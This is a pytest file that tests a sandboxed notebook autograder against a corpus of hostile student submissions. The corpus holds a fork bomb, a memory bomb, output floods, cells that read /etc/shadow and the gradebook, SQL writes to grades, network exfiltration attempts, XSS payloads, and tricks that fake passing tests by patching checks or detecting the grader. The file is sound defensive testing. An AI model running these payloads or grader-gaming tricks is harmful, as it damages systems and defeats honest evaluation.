"""The grading command against a corpus of broken and hostile submissions.

The corpus is made here, from the solution and the student notebooks of 00_welcome (so it
does not depend on any other lesson): every case is a notebook a student could hand in, with
its expected score per test cell and its expected reason codes. The whole corpus is graded in
ONE run of ``python -m course_utils grade --jobs 2`` (module fixture); the tests then read the
gradebook, the report, the autograded notebooks and the feedback.

Needs bubblewrap (``apt-get install bubblewrap``): skipped without it, except on CI.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from course_utils.tools.grading.nbgrader import grades, make_course
from course_utils.tools.grading.sandbox import find_bwrap
from tests.notebook_code import ROOT

pytestmark = pytest.mark.notebook

NAME = "00_welcome"
TESTS = ("test_to_chw_float", "test_rgb_to_grayscale")
SECRET = "grader-secret-4f1c"  # in the grader's environment; must never reach a student

# --- what students hand in -----------------------------------------------------------------------

WRONG_TO_CHW = '''def to_chw_float(image: np.ndarray) -> torch.Tensor:
    """Forgets to divide by 255: right shape, dtype and errors, wrong values."""
    if not (isinstance(image, np.ndarray) and image.ndim == 3 and image.shape[2] == 3):
        raise ValueError("expected (H, W, 3)")
    return torch.from_numpy(image).permute(2, 0, 1).float()
'''

VISIBLE_ONLY_TO_CHW = '''def to_chw_float(image: np.ndarray) -> torch.Tensor:
    """Refuses (H, W) arrays but not (H, W, 4) ones: passes the visible tests only."""
    if image.ndim != 3:
        raise ValueError("expected (H, W, 3)")
    return torch.from_numpy(image).permute(2, 0, 1).float() / 255
'''

NOISY_SOLUTION = '''import sys
import warnings

print("a debugging line on stderr", file=sys.stderr)
warnings.warn("a warning when the cell runs")


def to_chw_float(image: np.ndarray) -> torch.Tensor:
    warnings.warn("to_chw_float is called", UserWarning)
    print("debug: to_chw_float", image.shape, file=sys.stderr)
    if not (isinstance(image, np.ndarray) and image.ndim == 3 and image.shape[2] == 3):
        raise ValueError("expected (H, W, 3)")
    return torch.from_numpy(image).permute(2, 0, 1).float() / 255.0
'''

LOOPING_TO_CHW = '''def to_chw_float(image: np.ndarray) -> torch.Tensor:
    """Loops forever on the tiny images of the tests."""
    while image.shape[0] < 10:
        pass
    return torch.from_numpy(image).permute(2, 0, 1).float() / 255
'''

UNSTOPPABLE_RGB = '''def rgb_to_grayscale(x: torch.Tensor) -> torch.Tensor:
    """Ignores interrupts and loops forever on the small tensors of the tests."""
    import signal

    if x.numel() < 1000:
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
    return (x * torch.tensor([0.2989, 0.587, 0.114]).view(3, 1, 1)).sum(-3, keepdim=True)
'''

MEMORY_BOMB_TO_CHW = '''def to_chw_float(image: np.ndarray) -> torch.Tensor:
    """Eats memory until it runs out."""
    chunks = []
    while True:
        chunks.append(bytearray(1 << 27))
'''

SYS_EXIT_TO_CHW = '''def to_chw_float(image: np.ndarray) -> torch.Tensor:
    import sys

    sys.exit("bye")
'''

ALWAYS_EQUAL_TO_CHW = '''class AlwaysEqual:
    """Claims to equal everything and to have any shape or dtype asked for."""

    shape = property(lambda self: self)
    dtype = property(lambda self: self)
    device = property(lambda self: self)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __getattr__(self, name):
        return lambda *args, **kwargs: self

    def __bool__(self):
        return True


def to_chw_float(image: np.ndarray) -> torch.Tensor:
    return AlwaysEqual()
'''

FAKE_SUCCESS_TO_CHW = WRONG_TO_CHW + '''
print("✓ to_chw_float: 6 cases passed on cpu")
print("✓ to_chw_float: 8 hidden cases passed on cpu")
'''

MONKEYPATCH = WRONG_TO_CHW + '''
checks.to_chw_float = lambda *args, **kwargs: None  # every test of it now passes
'''

PATCHED_ALLCLOSE = WRONG_TO_CHW + '''
torch.allclose = lambda *args, **kwargs: True  # every comparison now agrees
'''

AST_TRANSFORMER = WRONG_TO_CHW + '''
import ast


class StripTests(ast.NodeTransformer):
    """Removes every assert and every call of a check from the cells that run next."""

    def visit_Assert(self, node):
        return None

    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, ast.Call) and isinstance(call.func, ast.Attribute) and \\
                isinstance(call.func.value, ast.Name) and call.func.value.id == "checks":
            return ast.Pass()
        return node


get_ipython().ast_transformers.append(StripTests())
'''

ENV_DETECTION = WRONG_TO_CHW + '''
import os

grading = any(k.startswith(("NBGRADER", "GRADER", "CI", "PYTEST")) for k in os.environ)
if grading:  # only under grading: make the tests pass
    checks.to_chw_float = lambda *args, **kwargs: None
print("environment:", sorted(os.environ))
'''

FORK_BOMB = '''import os

while True:
    try:
        os.fork()
    except OSError:
        pass
'''

SEGFAULT = '''import ctypes

ctypes.string_at(0)
'''

OUTPUT_FLOOD = '''while True:
    print("x" * 100_000)
'''


# Honest habits the grader must not punish ----------------------------------------------------

HELPER_CELL = '''SCALE = 255.0  # my own constant


def _channels_first(image):
    return torch.from_numpy(image).permute(2, 0, 1)
'''

USES_HELPER_TO_CHW = '''def to_chw_float(image: np.ndarray) -> torch.Tensor:
    if not (isinstance(image, np.ndarray) and image.ndim == 3 and image.shape[2] == 3):
        raise ValueError("expected (H, W, 3)")
    return _channels_first(image).float() / SCALE
'''

HELPER_AFTER = '''def _luma(x):
    weights = torch.tensor([0.2989, 0.587, 0.114], dtype=x.dtype, device=x.device)
    return (x * weights.view(3, 1, 1)).sum(dim=-3, keepdim=True)
'''

USES_LATER_HELPER_RGB = '''def rgb_to_grayscale(x: torch.Tensor) -> torch.Tensor:
    if x.ndim < 3 or x.shape[-3] != 3:
        raise ValueError("expected (..., 3, H, W)")
    return _luma(x)  # defined in my next cell
'''

LOGGING_CELL = '''import logging
import sys

log = logging.getLogger("my_notebook")
log.addHandler(logging.StreamHandler(sys.stderr))  # a handler on the real stderr
log.setLevel(logging.INFO)
'''

LOGS_TO_CHW = '''def to_chw_float(image: np.ndarray) -> torch.Tensor:
    log.warning("converting an image of shape %s", image.shape)
    if not (isinstance(image, np.ndarray) and image.ndim == 3 and image.shape[2] == 3):
        raise ValueError("expected (H, W, 3)")
    return torch.from_numpy(image).permute(2, 0, 1).float() / 255.0
'''

KERNEL_ONLY_FAILURE_TO_CHW = '''import sys


def to_chw_float(image: np.ndarray) -> torch.Tensor:
    """Right everywhere but in a Jupyter kernel: the re-check passes, the notebook fails."""
    if "ipykernel" in sys.modules:
        raise RuntimeError("something only my notebook does")
    if not (isinstance(image, np.ndarray) and image.ndim == 3 and image.shape[2] == 3):
        raise ValueError("expected (H, W, 3)")
    return torch.from_numpy(image).permute(2, 0, 1).float() / 255.0
'''

# Forbidden functions reached without their name ------------------------------------------------

ALIAS_TO_CHW = '''from torchvision.transforms.functional import to_tensor as _convert


def to_chw_float(image: np.ndarray, _f=_convert) -> torch.Tensor:
    if not (isinstance(image, np.ndarray) and image.ndim == 3 and image.shape[2] == 3):
        raise ValueError("expected (H, W, 3)")
    return _f(image)
'''

# Files the trusted grader reads, replaced -------------------------------------------------------

FIFO_PROGRESS = '''import os
import sys

for _folder in sys.argv[1:]:  # the re-check runner's exchange folder: its progress file
    _path = os.path.join(_folder, "progress.txt")
    if os.path.isdir(_folder) and os.path.exists(_path):
        os.remove(_path)
        os.mkfifo(_path)
if "-f" in sys.argv:  # the kernel's connection file
    _path = sys.argv[sys.argv.index("-f") + 1]
    if os.path.exists(_path):
        os.remove(_path)
        os.mkfifo(_path)
'''

# Student outputs that would run in the instructor's browser -----------------------------------

MARKER = "window.STUDENT_MARKER"

SCRIPT_OUTPUTS = f'''from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<b>bold</b><script>{MARKER} = 1</script>"))
display(Javascript("{MARKER} = 2"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>{MARKER} = 3</script></svg>'))
display(Markdown('<img src="x" onerror="{MARKER} = 4">'))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "abc", "version_major": 2,
                                                       "version_minor": 0}},
         "text/html": "<script>{MARKER} = 5</script>"}}, raw=True)
'''

SCRIPT_ANSWER = f'''Grayscale keeps luminance. <script>{MARKER} = 6</script>
<img src="x" onerror="{MARKER} = 7"> <iframe src="javascript:{MARKER} = 8"></iframe>'''


def reader(paths: list[str]) -> str:
    return f'''import os

for path in {paths!r}:
    try:
        with open(path, "rb") as handle:
            print("LEAK", path, handle.read(200))
    except OSError as error:
        print("blocked", path, type(error).__name__)
for folder in ["..", "../..", "/", "/home", "/tmp", "/work", "/root", "/opt"]:
    try:
        print("listing", folder, sorted(os.listdir(folder))[:20])
    except OSError as error:
        print("blocked", folder, type(error).__name__)
'''


def writer(paths: list[str]) -> str:
    return f'''import sqlite3

for path in {paths!r}:
    try:
        with open(path, "ab") as handle:
            handle.write(b"tampered")
        print("WROTE", path)
    except OSError as error:
        print("blocked", path, type(error).__name__)
    try:
        connection = sqlite3.connect(path)
        connection.execute("UPDATE grade SET auto_score = 100")
        connection.commit()
        print("WROTE-SQL", path)
    except Exception as error:
        print("blocked sql", path, type(error).__name__)
'''


def network(port: int) -> str:
    return f'''import socket
import urllib.request

for address in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
    try:
        socket.create_connection(address, timeout=3).sendall(b"exfiltrated")
        print("CONNECTED", address)
    except OSError as error:
        print("no network to", address, type(error).__name__)
try:
    urllib.request.urlopen("http://example.com", timeout=3)
    print("CONNECTED http")
except Exception as error:
    print("no http", type(error).__name__)
'''


# --- making the corpus ---------------------------------------------------------------------------


def grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def index_of(notebook, name: str) -> int:
    return next(i for i, c in enumerate(notebook.cells) if grade_id(c) == name)


@dataclass
class Corpus:
    blank: nbformat.NotebookNode
    solutions: dict[str, str]

    def student(self, **sources: str | None) -> nbformat.NotebookNode:
        """The student notebook with every exercise solved, except those given: a source, or
        None to leave the stub."""
        notebook = copy.deepcopy(self.blank)
        for cell in notebook.cells:
            name = grade_id(cell)
            if name in self.solutions:
                source = sources.get(name, self.solutions[name])
                if source is not None:
                    cell.source = source
        return notebook


def insert_after(notebook, name: str, source: str) -> nbformat.NotebookNode:
    notebook.cells.insert(index_of(notebook, name) + 1, nbformat.v4.new_code_cell(source))
    return notebook


def insert_before(notebook, name: str, source: str) -> nbformat.NotebookNode:
    notebook.cells.insert(index_of(notebook, name), nbformat.v4.new_code_cell(source))
    return notebook


@dataclass
class Expected:
    scores: dict[str, float]  # test cell -> points
    reasons: set[str] = field(default_factory=set)
    status: str | None = None  # default: graded, or flagged when there are reasons
    wrong: set[str] = field(default_factory=set)  # test cells of exercises it got wrong

    @property
    def final_status(self) -> str:
        return self.status or ("flagged" if self.reasons else "graded")


def both(a: float, b: float) -> dict[str, float]:
    return dict(zip(TESTS, (a, b), strict=True))


WRONG_1 = {"test_to_chw_float"}

EXPECTED: dict[str, Expected] = {
    "aa_control": Expected(both(2, 2)),
    "correct": Expected(both(2, 2)),
    "blank": Expected(both(0, 0), wrong=set(TESTS)),
    "partial": Expected(both(2, 0), wrong={"test_rgb_to_grayscale"}),
    "visible_only": Expected(both(0, 2), wrong=WRONG_1),
    "stderr_warnings": Expected(both(2, 2)),
    "infinite_loop": Expected(both(0, 2), {"timeout"}, wrong=WRONG_1),
    "unstoppable_loop": Expected(both(2, 0), {"timeout"}, wrong={"test_rgb_to_grayscale"}),
    "memory_bomb": Expected(both(0, 2), {"memory_limit"}, wrong=WRONG_1),
    "fork_bomb": Expected(both(2, 0), {"process_limit"}),
    "os_exit": Expected(both(2, 0), {"kernel_died"}),
    "segfault": Expected(both(2, 0), {"kernel_died"}),
    "sys_exit": Expected(both(0, 2), wrong=WRONG_1),
    "output_flood": Expected(both(2, 0), {"output_limit"}),
    "deleted_test": Expected(both(2, 2), {"cells_restored"}),
    "duplicated_test": Expected(both(2, 2), {"cells_restored"}),
    "edited_test": Expected(both(0, 2), {"cells_restored"}, wrong=WRONG_1),
    "retyped_test": Expected(both(0, 2), {"cells_restored"}, wrong=WRONG_1),
    "edited_points": Expected(both(0, 2), {"cells_restored"}, wrong=WRONG_1),
    "deleted_setup": Expected(both(2, 2), {"cells_restored"}),
    "monkeypatched_check": Expected(both(0, 2), {"tampering_suspected"}, wrong=WRONG_1),
    "patched_allclose": Expected(both(0, 2), {"tampering_suspected"}, wrong=WRONG_1),
    "ast_transformer": Expected(both(0, 2), {"tampering_suspected"}, wrong=WRONG_1),
    "always_equal": Expected(both(0, 2), wrong=WRONG_1),
    "fake_success": Expected(both(0, 2), wrong=WRONG_1),
    "env_detection": Expected(both(0, 2), wrong=WRONG_1),
    "reads_private": Expected(both(2, 2)),
    "writes_gradebook": Expected(both(0, 0), wrong=set(TESTS)),
    "network": Expected(both(2, 2)),
    "invalid_json": Expected(both(0, 0), {"invalid_notebook"}, "failed", set(TESTS)),
    "symlink_to_solution": Expected(both(0, 0), {"invalid_notebook"}, "failed", set(TESTS)),
    "missing": Expected(both(0, 0), {"missing_notebook"}, "failed", set(TESTS)),
    "helper_cells": Expected(both(2, 2)),
    "logs_to_stderr": Expected(both(2, 2)),
    "kernel_only_failure": Expected(both(2, 2)),
    "alias_to_forbidden": Expected(both(0, 2), wrong=WRONG_1),
    "fifo_for_grader_files": Expected(both(2, 2)),
    "script_outputs": Expected(both(2, 2)),
    "claims_earlier_time": Expected(both(2, 2), {"timestamp_mismatch"}),
    "zz_control": Expected(both(2, 2)),
}


def build_corpus(course: Path, port: int) -> None:
    """Write every case of EXPECTED into ``course/submitted/<student>/00_welcome/``."""
    source = nbformat.read(course / "solutions" / NAME / f"{NAME}.ipynb", as_version=4)
    blank = nbformat.read(course / "notebooks" / NAME / f"{NAME}.ipynb", as_version=4)
    solutions = {grade_id(c): c.source for c in source.cells
                 if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")}
    corpus = Corpus(blank, solutions)
    private = [str(course / "gradebook.db"), str(course / "solutions" / NAME / f"{NAME}.ipynb"),
               str(course / "submitted" / "correct" / NAME / f"{NAME}.ipynb"),
               str(ROOT / "solutions" / NAME / f"{NAME}.py"), str(ROOT / "nbgrader_config.py"),
               "../../correct/00_welcome/00_welcome.ipynb", "/etc/shadow", f"{NAME}.py",
               f"{NAME}.ipynb"]
    writable = [str(course / "gradebook.db"),
                str(course / "submitted" / "correct" / NAME / f"{NAME}.ipynb"),
                str(course / "autograded" / "aa_control" / NAME / f"{NAME}.ipynb")]
    notebooks: dict[str, nbformat.NotebookNode | str | None] = {
        "aa_control": corpus.student(),
        "correct": corpus.student(),
        "zz_control": corpus.student(),
        "blank": copy.deepcopy(blank),
        "partial": corpus.student(rgb_to_grayscale=None),
        "visible_only": corpus.student(to_chw_float=VISIBLE_ONLY_TO_CHW),
        "stderr_warnings": corpus.student(to_chw_float=NOISY_SOLUTION),
        "infinite_loop": corpus.student(to_chw_float=LOOPING_TO_CHW),
        "unstoppable_loop": corpus.student(rgb_to_grayscale=UNSTOPPABLE_RGB),
        "memory_bomb": corpus.student(to_chw_float=MEMORY_BOMB_TO_CHW),
        "fork_bomb": insert_after(corpus.student(), "test_to_chw_float", FORK_BOMB),
        "os_exit": insert_after(corpus.student(), "test_to_chw_float", "import os\nos._exit(1)"),
        "segfault": insert_after(corpus.student(), "test_to_chw_float", SEGFAULT),
        "sys_exit": insert_after(corpus.student(to_chw_float=SYS_EXIT_TO_CHW), "setup",
                                 "import sys\nsys.exit(0)"),
        "output_flood": insert_after(corpus.student(), "test_to_chw_float", OUTPUT_FLOOD),
        "monkeypatched_check": corpus.student(to_chw_float=MONKEYPATCH),
        "patched_allclose": corpus.student(to_chw_float=PATCHED_ALLCLOSE),
        "ast_transformer": corpus.student(to_chw_float=AST_TRANSFORMER),
        "always_equal": corpus.student(to_chw_float=ALWAYS_EQUAL_TO_CHW),
        "fake_success": corpus.student(to_chw_float=FAKE_SUCCESS_TO_CHW),
        "env_detection": corpus.student(to_chw_float=ENV_DETECTION),
        "reads_private": insert_after(corpus.student(), "setup", reader(private)),
        "writes_gradebook": insert_after(copy.deepcopy(blank), "setup", writer(writable)),
        "network": insert_after(corpus.student(), "setup", network(port)),
        "invalid_json": '{"cells": [ this is not JSON',
        "missing": None,
    }
    helpers = insert_before(corpus.student(to_chw_float=USES_HELPER_TO_CHW,
                                           rgb_to_grayscale=USES_LATER_HELPER_RGB),
                            "to_chw_float", HELPER_CELL)
    notebooks["helper_cells"] = insert_after(helpers, "rgb_to_grayscale", HELPER_AFTER)
    notebooks["logs_to_stderr"] = insert_before(corpus.student(to_chw_float=LOGS_TO_CHW),
                                                "to_chw_float", LOGGING_CELL)
    notebooks["kernel_only_failure"] = corpus.student(to_chw_float=KERNEL_ONLY_FAILURE_TO_CHW)
    notebooks["alias_to_forbidden"] = corpus.student(to_chw_float=ALIAS_TO_CHW)
    notebooks["fifo_for_grader_files"] = corpus.student(
        to_chw_float=FIFO_PROGRESS + "\n\n" + corpus.solutions["to_chw_float"])
    scripts = insert_after(corpus.student(), "setup", SCRIPT_OUTPUTS)
    scripts.cells[index_of(scripts, "written_grayscale")].source = SCRIPT_ANSWER
    notebooks["script_outputs"] = scripts
    notebooks["claims_earlier_time"] = corpus.student()
    deleted = corpus.student()
    del deleted.cells[index_of(deleted, "test_to_chw_float")]
    notebooks["deleted_test"] = deleted
    duplicated = corpus.student()
    copy_cell = copy.deepcopy(duplicated.cells[index_of(duplicated, "test_to_chw_float")])
    copy_cell.source = "pass  # my copy"
    copy_cell.id = "my-copy"
    duplicated.cells.insert(index_of(duplicated, "rgb_to_grayscale"), copy_cell)
    notebooks["duplicated_test"] = duplicated
    edited = corpus.student(to_chw_float=WRONG_TO_CHW)
    edited.cells[index_of(edited, "test_to_chw_float")].source = \
        'print("✓ to_chw_float: 6 cases passed on cpu")'
    notebooks["edited_test"] = edited
    retyped = corpus.student(to_chw_float=WRONG_TO_CHW)
    cell = retyped.cells[index_of(retyped, "test_to_chw_float")]
    retyped.cells[index_of(retyped, "test_to_chw_float")] = nbformat.v4.new_markdown_cell(
        cell.source, metadata=cell.metadata)
    notebooks["retyped_test"] = retyped
    points = corpus.student(to_chw_float=WRONG_TO_CHW)
    cell = points.cells[index_of(points, "test_to_chw_float")]
    cell.source = "pass"
    cell.metadata.nbgrader["points"] = 100
    from nbgrader.utils import compute_checksum

    cell.metadata.nbgrader["checksum"] = compute_checksum(cell)
    notebooks["edited_points"] = points
    no_setup = corpus.student()
    del no_setup.cells[index_of(no_setup, "setup")]
    no_setup.cells.insert(0, nbformat.v4.new_code_cell(
        "import numpy as np\nimport torch\nimport types\n"
        "checks = types.SimpleNamespace(to_chw_float=lambda *a, **k: None,\n"
        "                               rgb_to_grayscale=lambda *a, **k: None)"))
    notebooks["deleted_setup"] = no_setup
    for student, notebook in notebooks.items():
        folder = course / "submitted" / student / NAME
        folder.mkdir(parents=True)
        if isinstance(notebook, str):
            (folder / f"{NAME}.ipynb").write_text(notebook)
        elif notebook is not None:
            nbformat.write(notebook, folder / f"{NAME}.ipynb")
    (course / "submitted" / "claims_earlier_time" / NAME / "timestamp.txt").write_text(
        "2026-01-01 09:00:00.000000 UTC")  # a claim far from when it reached the grader
    folder = course / "submitted" / "symlink_to_solution" / NAME
    folder.mkdir(parents=True)
    (folder / f"{NAME}.ipynb").symlink_to(course / "solutions" / NAME / f"{NAME}.ipynb")
    assert set(EXPECTED) == set(notebooks) | {"symlink_to_solution"}


# --- grading it, once ----------------------------------------------------------------------------


class Listener:
    """A TCP server on this machine's loopback: the sandbox must not reach it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stopped.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def stop(self):
        self.stopped.set()
        self.thread.join()
        self.server.close()


def digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}


@dataclass
class Graded:
    course: Path
    process: subprocess.CompletedProcess
    report: dict
    listener_connections: int
    submitted_before: dict[str, str]
    submitted_after: dict[str, str]

    def notebook_text(self, student: str) -> str:
        path = self.course / "autograded" / student / NAME / f"{NAME}.ipynb"
        return path.read_text() if path.exists() else ""

    def output_text(self, student: str) -> str:
        """Everything the student's notebook printed or raised (not its source)."""
        notebook = json.loads(self.notebook_text(student))
        return "\n".join(
            "".join(output.get("text", "")) + str(output.get("evalue", ""))
            for cell in notebook["cells"] for output in cell.get("outputs", []))


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Graded:
    if find_bwrap() is None:
        if os.environ.get("CI"):
            pytest.fail("bubblewrap is missing: CI must `apt-get install -y bubblewrap`")
        pytest.skip("bubblewrap is not installed")
    course = make_course(tmp_path_factory.mktemp("corpus") / "course", ROOT, [NAME])
    listener = Listener()
    try:
        build_corpus(course, listener.port)
        before = digest(course / "submitted")
        env = dict(os.environ, GRADER_SECRET=SECRET, PYTHONUNBUFFERED="1")
        process = subprocess.run(
            [sys.executable, "-m", "course_utils", "grade", str(course / "submitted"),
             "--course", str(course), "--assignment", NAME, "--jobs", "2",
             "--cell-timeout", "30", "--timeout", "240", "--memory", "2", "--no-progress"],
            cwd=course, env=env, capture_output=True, text=True, timeout=1800)
    finally:
        listener.stop()
    print(process.stdout[-5000:], process.stderr[-5000:])
    report_path = course / "grades" / f"{NAME}.json"
    report = json.loads(report_path.read_text()) if report_path.exists() else {}
    return Graded(course, process, report, listener.connections, before,
                  digest(course / "submitted"))


# --- the tests -----------------------------------------------------------------------------------


def test_the_batch_grades_every_submission_and_ends_with_a_summary(graded):
    assert graded.process.returncode == 0, graded.process.stdout[-3000:]
    assert set(graded.report) == set(EXPECTED), "the batch stopped early or lost a student"
    summary = graded.process.stdout
    assert f"{NAME}: {len(EXPECTED)} submission(s)" in summary
    flagged = sum(e.final_status == "flagged" for e in EXPECTED.values())
    failed = sum(e.final_status == "failed" for e in EXPECTED.values())
    assert f"{len(EXPECTED) - flagged - failed} graded, {flagged} flagged, {failed} failed" \
        in summary


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_each_submission_gets_its_expected_score_and_reasons(graded, student):
    expected = EXPECTED[student]
    entry = graded.report[student]
    detail = json.dumps(entry, indent=1)[:3000]
    assert set(entry["reasons"]) == expected.reasons, detail
    assert entry["status"] == expected.final_status, detail
    cells = grades(graded.course, NAME, student)  # from the gradebook
    scores = {name: cells[name].score for name in TESTS}
    assert scores == expected.scores, detail
    assert {name: cells[name].max_score for name in TESTS} == both(2, 2)  # points not edited
    for name in expected.wrong:  # never more than the solution gets for a wrong exercise
        assert cells[name].score == 0


def test_no_student_changes_another_students_grade_or_files(graded):
    assert graded.submitted_after == graded.submitted_before
    for student in ("aa_control", "correct", "zz_control"):
        cells = grades(graded.course, NAME, student)
        assert {n: cells[n].score for n in TESTS} == both(2, 2)
    written = graded.output_text("writes_gradebook")
    assert "WROTE" not in written and written.count("blocked") == 6


def test_the_controls_are_graded_identically_wherever_they_fall_in_the_batch(graded):
    def test_outputs(student: str) -> list:
        notebook = json.loads(graded.notebook_text(student))
        return [c["outputs"] for c in notebook["cells"]
                if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") in TESTS]

    assert test_outputs("aa_control") == test_outputs("zz_control") == test_outputs("correct")


def test_private_files_are_unreachable_from_the_kernel(graded):
    text = graded.output_text("reads_private")
    assert "LEAK" not in text and text.count("blocked") >= 9
    listings = [line for line in text.splitlines() if line.startswith("listing")]
    assert len(listings) >= 5 and not any("gradebook" in line or "submitted" in line
                                          for line in listings)


def test_no_network_and_no_grader_environment_in_the_sandbox(graded):
    assert graded.listener_connections == 0
    text = graded.output_text("network")
    assert "CONNECTED" not in text and text.count("no network to") == 3
    environment = graded.output_text("env_detection")
    assert "environment:" in environment
    assert SECRET not in environment and "GRADER_SECRET" not in environment
    assert "NBGRADER" not in environment


def test_tampering_is_reported_with_the_cell_and_the_reason(graded):
    for student in ("monkeypatched_check", "patched_allclose", "ast_transformer"):
        details = " ".join(graded.report[student]["details"])
        assert "test_to_chw_float: passed in the kernel but failed the re-check" in details
        assert "divide the uint8 values by 255" in details  # the re-check's own message


def test_autograded_notebooks_and_feedback_hold_no_hidden_test(graded):
    for student in ("correct", "visible_only", "monkeypatched_check"):
        feedback = graded.course / "feedback" / student / NAME / f"{NAME}.html"
        for text in (graded.notebook_text(student), feedback.read_text()):
            assert "seed=2026" not in text and "HIDDEN TESTS" not in text
            assert "RGBA" not in text  # the name of a hidden case
    assert "hidden tests failed" in graded.notebook_text("visible_only")


def test_the_csv_has_a_row_per_student_and_the_totals(graded):
    rows = (graded.course / "grades" / f"{NAME}.csv").read_text().splitlines()
    assert rows[0].startswith("student,status,reasons,test_to_chw_float (2),"
                              "test_rgb_to_grayscale (2),written_grayscale (2)")
    assert len(rows) == 1 + len(EXPECTED)
    correct = next(r for r in rows if r.startswith("correct,"))
    assert correct.split(",")[-5:] == ["4", "4", "4", "6", ""]


def test_helpers_in_the_students_own_cells_count_in_the_recheck(graded):
    entry = graded.report["helper_cells"]
    assert entry["reasons"] == [] and entry["score"] == 4, json.dumps(entry)[:2000]
    assert all(cell["recheck"] == "passed" for name, cell in entry["cells"].items()
               if name in TESTS)


def test_logging_to_stderr_is_no_accusation(graded):
    entry = graded.report["logs_to_stderr"]
    assert entry["reasons"] == [] and entry["score"] == 4
    assert all(entry["cells"][name]["kernel"] == "passed" for name in TESTS)  # a clean pass
    assert "converting an image" in graded.output_text("logs_to_stderr")  # shown, on stdout
    failing = graded.report["kernel_only_failure"]  # failed in the kernel, passed outside
    assert failing["reasons"] == [] and failing["score"] == 4
    assert any("test_to_chw_float failed in the notebook" in d and "RuntimeError" in d
               for d in failing["details"])


def test_a_saved_alias_of_a_forbidden_function_is_refused_in_the_kernel_and_the_recheck(graded):
    cell = graded.report["alias_to_forbidden"]["cells"]["test_to_chw_float"]
    assert cell["kernel"] == "failed" and cell["recheck"] == "failed"
    assert "to_tensor" in " ".join(cell["messages"])


def test_a_fifo_in_place_of_a_file_the_grader_reads_blocks_nothing(graded):
    entry = graded.report["fifo_for_grader_files"]
    assert entry["status"] == "graded" and entry["score"] == 4
    assert entry["seconds"]["total"] < 200


def test_no_student_script_reaches_the_instructors_browser(graded):
    student = "script_outputs"
    notebook = json.loads(graded.notebook_text(student))
    kinds = {mime for cell in notebook["cells"] for output in cell.get("outputs", [])
             for mime in output.get("data", {})}
    assert kinds <= {"text/plain", "image/png", "image/jpeg"}, kinds
    assert "widgets" not in notebook["metadata"]
    assert "<b>bold</b>" in graded.output_text(student) or "bold" in json.dumps(notebook)
    feedback = (graded.course / "feedback" / student / NAME / f"{NAME}.html").read_text()
    live = LiveCode()
    live.feed(feedback)
    assert live.scripts and not any(MARKER in script for script in live.scripts)
    assert not any(MARKER in value for value in live.attributes), \
        [v for v in live.attributes if MARKER in v]
    assert "Grayscale keeps luminance" in feedback  # the written answer is still there


class LiveCode(HTMLParser):
    """What a browser would run in a page: its scripts, and attributes that run code (event
    handlers, ``javascript:`` links and sources). Text, escaped markup included, is inert."""

    def __init__(self):
        super().__init__()
        self.scripts: list[str] = []
        self.attributes: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        self.in_script = tag == "script"
        if self.in_script:
            self.scripts.append("")
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith(
                    "javascript:"):
                self.attributes.append(f"{name}={value}")

    def handle_endtag(self, tag):
        self.in_script = False

    def handle_data(self, data):
        if self.in_script:
            self.scripts[-1] += data


def test_the_submission_time_is_the_instructors_and_a_false_claim_is_flagged(graded):
    import datetime

    from nbgrader.api import Gradebook

    entry = graded.report["claims_earlier_time"]
    assert entry["claimed"].startswith("2026-01-01T09:00:00")
    assert entry["received"] and not entry["received"].startswith("2026-01-01")
    assert any("timestamp.txt claims" in d for d in entry["details"])
    with Gradebook(f"sqlite:///{graded.course / 'gradebook.db'}") as gradebook:
        stored = gradebook.find_submission(NAME, "claims_earlier_time").timestamp
    received = datetime.datetime.fromisoformat(entry["received"]).replace(tzinfo=None)
    assert abs((stored - received).total_seconds()) < 2
